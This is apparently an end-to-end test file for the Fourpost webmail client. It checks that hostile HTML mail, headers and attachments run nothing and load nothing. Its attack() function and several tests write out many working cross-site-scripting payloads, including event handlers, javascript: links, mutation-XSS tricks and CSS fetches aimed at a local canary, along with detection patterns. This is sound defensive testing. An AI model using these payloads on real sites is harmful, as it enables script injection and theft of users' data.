// SPDX-License-Identifier: ISC
// SPDX-FileCopyrightText: The Fourpost authors
// Mail that means harm: nothing of it may run, load or reach out of its frame.
import { createServer } from 'node:http';
import { alice, assert, check, equal, frame, openMessage, shoot, unique, until, watch } from '../harness.mjs';
import { deliver, inject } from '../mail.mjs';
import { vectors } from './vectors.mjs';

/** Counts whoever comes to fetch something. */
async function canary() {
	const hits = [];
	const server = createServer((request, response) => {
		hits.push(request.url);
		response.end();
	});
	await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
	return { url: `http://127.0.0.1:${server.address().port}`, hits, close: () => server.close() };
}

function attack(url) {
	const run = `document.title='owned';parent.document.title='owned';fetch('${url}/script');alert(1)`;
	return `<html><head><title>owned</title><base href="${url}/"><meta http-equiv="refresh" content="0;url=${url}/refresh"><link rel="stylesheet" href="${url}/link.css"><link rel="prefetch" href="${url}/prefetch">
<style>@import url("${url}/import.css"); body{background:url(${url}/style-body)} @font-face{font-family:x;src:url(${url}/font)} p{font-family:x} .a{background-image:url( '${url}/style-class' )}</style></head>
<body background="${url}/background" onload="${run}"><p class="a" style="background:url(${url}/inline)">Dear customer</p>
<script>${run}</script><script src="${url}/src.js"></script>
<img src="x" onerror="${run}"><img src="${url}/image" srcset="${url}/srcset 2x"><img src=//127.0.0.1/relative onerror=${JSON.stringify(run)}>
<svg onload="${run}"><image href="${url}/svg-image"/><animate attributeName="href" values="javascript:${run}"/><foreignObject><iframe src="${url}/svg-frame"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></mglyph></table></mtext></math>
<iframe src="${url}/frame"></iframe><object data="${url}/object"></object><embed src="${url}/embed"><video src="${url}/video" poster="${url}/poster" autoplay></video><audio src="${url}/audio" autoplay></audio>
<form action="${url}/form"><input name="password" type="password" autofocus onfocus="${run}"><button formaction="javascript:${run}">go</button></form>
<a href="javascript:${run}" id="bad">click me</a> <a href="  java\tscript:${run}">or me</a> <a href="data:text/html,<script>${run}</script>">or me too</a>
<div style="position:fixed;inset:0;z-index:99999;background:red;width:expression(${run})">covers the page</div>
<template><img src="${url}/template" onerror="${run}"></template><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>
<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea><p>The end</p></body></html>`;
}

check('a hostile message runs nothing and asks for nothing', async ({ open }) => {
	const trap = await canary();
	const page = await open(alice);
	const foreign = watch(page);
	const subject = unique('Your account');
	await deliver({ subject, html: attack(trap.url) });
	await openMessage(page, subject);
	await frame(page).getByText('The end').waitFor();
	await page.waitForTimeout(1500);
	await shoot(page, 'reading-hostile');
	equal(foreign.join(' '), '', 'foreign requests');
	equal(trap.hits.join(' '), '', 'fetches that arrived');
	assert(!(await page.title()).includes('owned'), 'a script changed the title');
	equal(await frame(page).locator('script, iframe, object, embed, form, input, button, svg, math, meta[http-equiv=refresh], base, link, video, audio').count(), 0, 'elements that should have gone');
	const handlers = await frame(page).locator('body').evaluate((body) => [body, ...body.querySelectorAll('*')].flatMap((element) => [...element.attributes])
		.filter(({ name, value }) => name.startsWith('on') || /^\s*(?:j\s*a\s*v\s*a|data:text)/i.test(value)).map(({ name }) => name));
	equal(handlers.join(' '), '', 'attributes that run');
	const origin = await page.locator('iframe.reader-frame').evaluate((element) => element.sandbox.value);
	assert(!origin.includes('allow-scripts') && !origin.includes('allow-same-origin'), `the sandbox is ${origin}`);
	trap.close();
});

check('its links cannot run scripts when clicked', async ({ open }) => {
	const trap = await canary();
	const page = await open(alice);
	const foreign = watch(page);
	const subject = unique('Click here');
	await deliver({ subject, html: `<p><a href="javascript:fetch('${trap.url}/click')">click me</a></p><p>The end</p>` });
	await openMessage(page, subject);
	await frame(page).getByText('click me').click();
	await page.waitForTimeout(500);
	equal(foreign.join(' ') + trap.hits.join(' '), '', 'what came of the click');
	trap.close();
});

check('remote images wait until they are asked for', async ({ open }) => {
	const page = await open(alice);
	const asked = [];
	await page.context().route('https://images.remote.test/**', (route) => {
		asked.push(route.request().url());
		return route.abort();
	});
	const subject = unique('Newsletter');
	await deliver({ subject, html: '<p>News</p><img src="https://images.remote.test/a.png"><img src="https://images.remote.test/b.png"><p>The end</p>', text: 'News' });
	await openMessage(page, subject);
	await page.getByText('2 images from elsewhere were not loaded.').waitFor();
	await page.waitForTimeout(500);
	equal(asked.length, 0, 'images asked for');
	await shoot(page, 'reading-images-blocked');
	await page.getByRole('button', { name: 'Show images' }).click();
	await until(() => asked.length === 2, 'the images are asked for');
	equal(await page.getByText('2 images from elsewhere').count(), 0, 'banners left');
});

check('quoting a hostile message in a reply runs nothing', async ({ open }) => {
	const trap = await canary();
	const page = await open(alice);
	const foreign = watch(page);
	const subject = unique('Please answer');
	await deliver({ subject, html: attack(trap.url) });
	await openMessage(page, subject);
	await page.getByRole('button', { name: 'Reply', exact: true }).click();
	const editor = page.locator('.editor[contenteditable]');
	await editor.getByText('Dear customer').waitFor();
	await editor.press('x');
	await editor.press('Control+z');
	await page.waitForTimeout(1000);
	equal(foreign.join(' ') + trap.hits.join(' '), '', 'what the quote did');
	const bad = await editor.evaluate((root) => [...root.querySelectorAll('*')].filter((element) => /^(?:script|style|iframe|object|embed|form|button|svg|math|meta|base|link|video|audio|template|textarea)$/i.test(element.nodeName) ||
		[...element.attributes].some(({ name, value }) => name.startsWith('on') || /javascript:|url\(|fixed/i.test(value))).map((element) => element.outerHTML.slice(0, 100)));
	equal(bad.join('\n'), '', 'what is left of it');
	await page.getByRole('button', { name: 'Discard the draft' }).click();
	await page.getByRole('button', { name: 'Discard', exact: true }).click();
	trap.close();
});

check('hostile headers are only text', async ({ open }) => {
	const page = await open(alice);
	const foreign = watch(page);
	const subject = unique('<img src=x onerror=alert(1)> <b>bold</b>');
	await deliver({ from: '"<img src=x onerror=alert(2)>" <x@remote.test>', subject, text: 'x', files: [{ type: 'text/html', name: '<img src=x onerror=alert(3)>.html', bytes: '<script>alert(4)</script>' }] });
	await openMessage(page, subject);
	await page.locator('.file-name', { hasText: '<img src=x' }).waitFor();
	await page.waitForTimeout(300);
	equal(foreign.join(' '), '', 'what it did');
	equal(await page.locator('.reader-header img, .row img, .file-name img').count(), 0, 'images made of text');
});

const forbidden = 'script, iframe, frame, frameset, object, embed, applet, form, input, button, select, textarea, svg, math, meta[http-equiv], base, link, video, audio, source, track, picture, template, dialog, plaintext, slot';

/** What of a document, as the browser has understood it, could run, load, send, or reach out of its place. */
function findings(root, [trap, elements]) {
	const found = [...root.querySelectorAll(elements)].map((element) => element.outerHTML.slice(0, 120));
	for (const element of [root, ...root.querySelectorAll('*')]) {
		for (const { name, value } of element.attributes) {
			const link = element.nodeName === 'A' && name === 'href';
			if (/^on|^(?:srcdoc|srcset|ping|action|formaction|target$|popover|autofocus|contenteditable|download|attributionsrc)/.test(name) && !(name === 'target' && value === '_blank')) found.push(`${element.nodeName} ${name}=${value.slice(0, 80)}`);
			if (link ? !/^(?:https?:\/\/|mailto:|tel:|#)/.test(value) : value.includes(trap) && /src|back|href|style|data|url/.test(name)) found.push(`${element.nodeName} ${name}=${value.slice(0, 80)}`);
			if (/^(?:src|background)$/.test(name) && !/^(?:data:image\/(?:png|gif|jpeg|webp);base64,)/.test(value)) found.push(`${element.nodeName} ${name}=${value.slice(0, 80)}`);
		}
		const style = getComputedStyle(element);
		if (/fixed|absolute|sticky/.test(style.position)) found.push(`${element.nodeName} is ${style.position}`);
		for (const name of ['backgroundImage', 'listStyleImage', 'cursor', 'content', 'maskImage', 'filter', 'clipPath', 'borderImageSource']) if (/url|image-set/.test(style[name])) found.push(`${element.nodeName} ${name}: ${style[name].slice(0, 80)}`);
	}
	const sheets = [...root.querySelectorAll('style')].map((style) => style.textContent).join('');
	if (/url\(|@import|@font-face|expression|javascript/i.test(sheets)) found.push(`a style sheet: ${sheets.slice(-200)}`);
	return found;
}

check('none of the known ways runs, loads or sends anything', async ({ open }) => {
	const trap = await canary();
	const page = await open(alice);
	const foreign = watch(page);
	const run = `parent.postMessage(1,'*');top.document.title=1;new Image().src='${trap.url}/run';alert(1)`.replace(/"/g, "'");
	const mark = unique('Vector').replace(/\W/g, '');
	const all = vectors(trap.url, run);
	await inject(all.map(([, { type, body, encoding }], i) => Buffer.concat([
		Buffer.from(`From: x@remote.test\r\nTo: ${alice}\r\nSubject: ${mark} no ${i} \r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\nContent-Transfer-Encoding: base64\r\n\r\n`),
		Buffer.from(`${body.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`),
	])));
	await page.evaluate(() => {
		window.messages = 0;
		window.addEventListener('message', () => window.messages++);
	});
	await page.getByLabel('Search mail').fill(`subject:${mark}`);
	await until(async () => {
		await page.getByLabel('Search mail').focus();
		await page.keyboard.press('Enter');
		return page.locator('.list-title', { hasText: `${all.length} results` }).waitFor({ timeout: 1000 }).then(() => true, () => false);
	}, 'all have come in', 60);
	const found = [];
	await page.locator('.row:not(.waiting)').first().click();
	for (let i = 1; i <= all.length; i++) {
		if (i > 1) await page.keyboard.press('ArrowDown');
		await page.locator(`.row.open[aria-rowindex="${i}"]`).waitFor();
		const id = await page.locator('.row.open').getAttribute('data-id');
		const subject = await page.locator('.row.open .row-subject').textContent();
		const name = all[Number(/no (\d+)/.exec(subject)[1])][0];
		await page.locator('.reader-subject', { hasText: subject.trim() }).waitFor();
		const place = page.locator(`iframe.reader-frame[src*="${id}"], .no-text`);
		await place.waitFor();
		if (await page.locator('.no-text').count() > 0) continue;
		const html = page.frameLocator(`iframe.reader-frame[src*="${id}"]`).locator('html');
		await html.locator('body').waitFor();
		found.push(...(await html.evaluate(findings, [trap.url, forbidden])).map((text) => `${name}: ${text}`));
	}
	await page.waitForTimeout(500);
	equal(found.join('\n'), '', 'what is left');
	equal(foreign.join(' ') + trap.hits.join(' '), '', 'what was asked for');
	equal(await page.evaluate(() => window.messages), 0, 'messages to the page');
	equal(page.context().pages().length, 1, 'windows');
	trap.close();
});

check('a hostile message with its images shown, and in a tab of its own', async ({ open }) => {
	const trap = await canary();
	const page = await open(alice);
	const asked = [];
	await page.context().route(/remote\.test/, (route) => {
		asked.push(`${route.request().resourceType()} ${new URL(route.request().url()).pathname}`);
		return route.abort();
	});
	const subject = unique('With images');
	await deliver({ subject, html: attack('https://hostile.remote.test') });
	await openMessage(page, subject);
	await page.getByRole('button', { name: 'Show images' }).click();
	await until(() => asked.length > 0, 'images are asked for');
	await page.waitForTimeout(700);
	equal(asked.filter((one) => !one.startsWith('image ')).join(' '), '', 'what else was asked for');
	assert(asked.some((one) => one === 'image /image'), `the image is not asked for: ${asked}`);
	const url = await page.locator('iframe.reader-frame').getAttribute('src');
	const [response, tab] = await (async () => {
		const other = await page.context().newPage();
		return [await other.goto(new URL(url.replace('images=1', 'images=0'), page.url()).href), other];
	})();
	const policy = response.headers()['content-security-policy'] ?? '';
	assert(/sandbox(?! allow-same-origin)/.test(policy) && !/allow-scripts|allow-same-origin|allow-top/.test(policy) && policy.includes("default-src 'none'"), `its policy: ${policy}`);
	await tab.getByText('The end').waitFor();
	equal(await tab.locator(forbidden).count(), 0, 'elements that should have gone');
	equal(await tab.title(), '', 'its title');
	equal(trap.hits.join(' '), '', 'fetches that arrived');
	trap.close();
});

check('attached pages are saved and never shown', async ({ open }) => {
	const page = await open(alice);
	const foreign = watch(page);
	const subject = unique('A page and a drawing');
	await deliver({ subject, text: 'x', files: [
		{ type: 'text/html', name: 'page.html', bytes: '<script>alert(document.domain)</script>' },
		{ type: 'image/svg+xml', name: 'drawing.svg', bytes: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>' },
	] });
	await openMessage(page, subject);
	equal(await page.locator('.attachments img').count(), 0, 'previews');
	for (const link of await page.locator('a.file').all()) {
		const { disposition, policy, sniff } = await link.evaluate(async ({ href }) => {
			const { headers } = await fetch(href);
			return { disposition: headers.get('content-disposition'), policy: headers.get('content-security-policy'), sniff: headers.get('x-content-type-options') };
		});
		assert(/^attachment/.test(disposition ?? ''), `disposition: ${disposition}`);
		assert(/^sandbox;/.test(policy ?? ''), `policy: ${policy}`);
		equal(sniff, 'nosniff', 'X-Content-Type-Options');
	}
	equal(foreign.join(' '), '', 'what it did');
});
